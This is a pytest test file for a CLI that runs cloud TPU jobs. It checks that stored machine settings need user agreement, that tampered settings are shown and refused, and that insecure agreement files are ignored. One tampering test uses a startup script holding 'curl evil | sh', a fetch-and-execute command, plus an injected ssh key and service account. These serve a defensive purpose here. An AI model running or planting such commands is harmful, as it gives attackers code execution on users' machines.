"""What a store says of machines is not acted upon with a user's rights before the user agrees."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from holdfast.cli import fleet as shared
from holdfast.cli.fleet import agreed_machines
from holdfast.cli.health import health
from holdfast.cli.recover import recover
from holdfast.core.hosts.wanted import Machines
from holdfast.errors import ConfigurationError
from holdfast.journal.agreed import agree, agreed, differences
from holdfast.journal.machines import replace_machines, write_machines
from holdfast.journal.store import RunFolder, RunStore


@pytest.fixture
def machines() -> Machines:
    return Machines("cloud-tpu", "lm-1", "1" * 12, "lm", "p", "z", "v6e-8", "v2", script="run\n")


@pytest.fixture
def folder(
    store: Path, tmp_path: Path, machines: Machines, monkeypatch: pytest.MonkeyPatch
) -> RunFolder:
    monkeypatch.setenv("HOLDFAST_STORE", str(store))
    monkeypatch.setenv("HOLDFAST_MIRROR", str(tmp_path / "mirror"))
    folder = RunStore(store).create("lm")
    write_machines(folder, machines)
    return folder


def ask(command: object, *words: str) -> Result:
    return CliRunner().invoke(command, ["lm", *words])


def test_what_was_made_here_is_looked_after_without_a_question(folder, machines) -> None:
    agree(folder, machines)
    assert agreed_machines(folder, accept_stored=False) == machines


@pytest.mark.parametrize("command", [recover, health])
def test_without_an_agreement_nobody_is_even_asked(
    command: object, folder: RunFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shared, "CloudTpu", lambda *_, **__: pytest.fail("the cloud was asked"))
    result = ask(command)
    assert isinstance(result.exception, ConfigurationError)
    assert "say so once with --accept-stored" in str(result.exception)
    assert "made of is not known on this host; the store says:" in result.stderr
    assert "  project: 'p'\n" in result.stderr
    assert agreed(folder) is None


def test_what_was_changed_in_the_store_is_shown_and_refused(folder, machines) -> None:
    agree(folder, machines)
    changed = replace(
        machines,
        script="run\ncurl evil | sh\n",
        service_account="owner@p",
        project="theirs",
        metadata=(("ssh-keys", "me"),),
    )
    replace_machines(folder, changed)
    result = ask(recover, "--delete")
    assert isinstance(result.exception, ConfigurationError)
    for line in (
        "is changed in the store; the store says:",
        "  project: 'theirs', agreed: 'p'",
        "  script:",
        "    +curl evil | sh",
        "  service_account: 'owner@p', agreed: ''",
        "  metadata: (('ssh-keys', 'me'),), agreed: ()",
    ):
        assert line in result.stderr
    assert "zone" not in result.stderr, "only what differs"
    assert agreed(folder) == machines, "the refusal has changed nothing"
    assert agreed_machines(folder, accept_stored=True) == changed
    assert agreed_machines(folder, accept_stored=False) == changed, "once is enough"


def test_on_a_terminal_the_user_is_asked(folder, machines, monkeypatch) -> None:
    asked: list[str] = []
    answers = [False, True]
    monkeypatch.setattr(shared.sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(
        shared.click, "confirm", lambda words, **_: (asked.append(words), answers.pop(0))[1]
    )
    with pytest.raises(ConfigurationError):
        agreed_machines(folder, accept_stored=False)
    assert agreed_machines(folder, accept_stored=False) == machines
    assert len(asked) == 2


def test_an_agreement_is_of_one_run_in_one_store(folder, machines, tmp_path: Path) -> None:
    """A store that takes another run's id or name does not get that run's agreement."""
    agree(folder, machines)
    other = RunStore(tmp_path / "other").create("lm")
    (other.path / "run.json").write_bytes((folder.path / "run.json").read_bytes())
    assert agreed(RunStore(tmp_path / "other").get("lm")) is None


def test_an_agreement_that_others_may_write_is_none(folder, machines, tmp_path: Path) -> None:
    agree(folder, machines)
    (path,) = (tmp_path / "mirror" / "agreed").iterdir()
    assert (path.stat().st_mode & 0o777, path.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    path.chmod(0o622)
    assert agreed(folder) is None
    path.chmod(0o600)
    assert agreed(folder) == machines
    path.parent.chmod(0o777)
    assert agreed(folder) is None
    path.parent.chmod(0o700)
    path.write_text(json.dumps({"provider": 1}))
    assert agreed(folder) is None
    path.rename(path.with_suffix(".old"))
    path.symlink_to(path.with_suffix(".old"))
    assert agreed(folder) is None


def test_all_fields_are_compared(machines: Machines) -> None:
    for name, value in machines.to_json().items():
        other = not value if isinstance(value, bool) else value * 2 if value else "x"
        said = list(differences(machines, replace(machines, **{name: other})))
        assert said
        assert said[0].startswith(name)
